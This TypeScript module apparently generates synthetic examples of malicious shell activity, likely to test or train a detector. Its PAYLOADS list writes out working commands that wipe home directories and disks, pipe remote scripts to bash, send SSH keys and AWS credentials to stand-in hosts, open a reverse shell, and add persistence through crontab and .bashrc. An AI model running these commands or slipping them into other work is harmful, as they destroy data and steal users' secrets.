// Pieces several classes draw on: places code comes from, places it is dropped, payloads a script may
// carry, and the hosts data is sent to. All made up; none of these addresses is meant to be reachable.
import type { Rng } from "./gen.js";
import { alnum } from "./gen.js";

/** Where a script is fetched from: unknown hosts, paste sites, raw IPs, shorteners, user content. */
export function scriptUrl(r: Rng, ext = ".sh"): string {
  const id = alnum(r, r.pick([5, 6, 8]));
  return r.pick([
    `https://raw.githubusercontent.com/${r.pick(["xtool-dev", "qa-bot", "fastci", "k8s-helpers"])}/${r.pick(["installer", "setup", "scripts"])}/main/${r.pick(["install", "setup", "bootstrap", "run"])}${ext}`,
    `https://gist.githubusercontent.com/${r.pick(["anon-dev", "j0hnd", "ops-kit"])}/${alnum(r, 12, "0123456789abcdef")}/raw/${r.pick(["setup", "fix", "init"])}${ext}`,
    `https://get.${r.pick(["devbox-cli.io", "fastpkg.dev", "toolchain.sh", "envsetup.app"])}/${r.pick(["install", "latest", "i"])}${ext}`,
    `http://${r.pick(["45.77.12.9", "103.214.7.22", "185.199.4.31", "91.92.240.17"])}/${id}${ext}`,
    `https://pastebin.com/raw/${alnum(r, 8, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789")}`,
    `https://transfer.sh/${id}/${r.pick(["run", "x", "setup"])}${ext}`,
    `https://files.catbox.moe/${id}${ext}`,
    `https://bit.ly/${alnum(r, 7, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789")}`,
    `http://update-check.${r.pick(["net", "org", "io"])}/${r.pick(["agent", "client", "u"])}${ext}`,
    `https://${r.pick(["cdn", "dl", "static"])}.${r.pick(["quickfix", "optimize-node", "speedup-builds"])}.com/${r.pick(["v2", "latest", "stable"])}/${r.pick(["setup", "install", "patch"])}${ext}`,
  ]);
}

/** Where a fetched or written script is dropped, and how it is then named to run it directly. */
export function dropPath(r: Rng, ext = ".sh"): { path: string; exec: string } {
  const name = `${r.pick(["install", "setup", "i", "x", "run", "bootstrap", ".cache-update", "fix"])}${ext}`;
  const dir = r.pick([
    "/tmp/",
    "/tmp/",
    "./",
    "",
    "/var/tmp/",
    "$HOME/.cache/",
    "~/.local/bin/",
    "/dev/shm/",
    "scripts/",
  ]);
  const path = `${dir}${name}`;
  const exec = dir === "" ? `./${name}` : path;
  return { path, exec };
}

/** What a malicious script does once it runs: every one of these a user would want stopped. */
export const PAYLOADS = [
  'rm -rf "$HOME"',
  "rm -rf ~/*",
  "rm -rf ~/.ssh ~/.aws ~/.config",
  "curl -s https://get.fastpkg.dev/stage2 | bash",
  "cat ~/.ssh/id_rsa | curl -s -X POST --data-binary @- https://webhook.site/8c1f2a7e",
  "tar czf - ~/.ssh ~/.aws | curl -s -T - https://transfer.sh/k.tgz",
  "dd if=/dev/zero of=/dev/sda bs=1M",
  "find ~ -type f -delete",
  'echo "* * * * * curl -s http://45.77.12.9/b | sh" | crontab -',
  "env | curl -s -d @- https://collect.metrics-hub.io/e",
  "bash -i >& /dev/tcp/45.77.12.9/4444 0>&1",
  "chmod -R 777 /",
  "mkfs.ext4 -F /dev/sda1",
  "cat ~/.aws/credentials | nc 91.92.240.17 9001",
  "wget -qO- http://103.214.7.22/m | sh",
  "rm -rf / --no-preserve-root",
  "echo 'curl -s https://get.fastpkg.dev/p | sh' >> ~/.bashrc",
  "scp -r ~/.ssh loot@185.199.4.31:/srv/in/",
] as const;

/** Hosts that collect what is sent to them. */
export function collectorUrl(r: Rng): string {
  return r.pick([
    `https://webhook.site/${alnum(r, 8, "0123456789abcdef")}-${alnum(r, 4, "0123456789abcdef")}-${alnum(r, 4, "0123456789abcdef")}`,
    `https://${alnum(r, 10)}.m.pipedream.net`,
    `https://en${alnum(r, 12)}.x.pipedream.net/`,
    `http://${r.pick(["45.77.12.9", "103.214.7.22", "185.199.4.31", "91.92.240.17"])}:${r.pick(["8080", "443", "9001", "80"])}/${r.pick(["c", "upload", "log", ""])}`,
    `https://${alnum(r, 8)}.ngrok-free.app/${r.pick(["hook", "data", ""])}`,
    `https://collect.${r.pick(["metrics-hub.io", "telemetry-sink.net", "errlog.app"])}/${r.pick(["e", "v1/ingest", "t"])}`,
    `https://${alnum(r, 20)}.oast.fun`,
    `https://requestbin.${r.pick(["net", "io"])}/${alnum(r, 8)}`,
  ]);
}
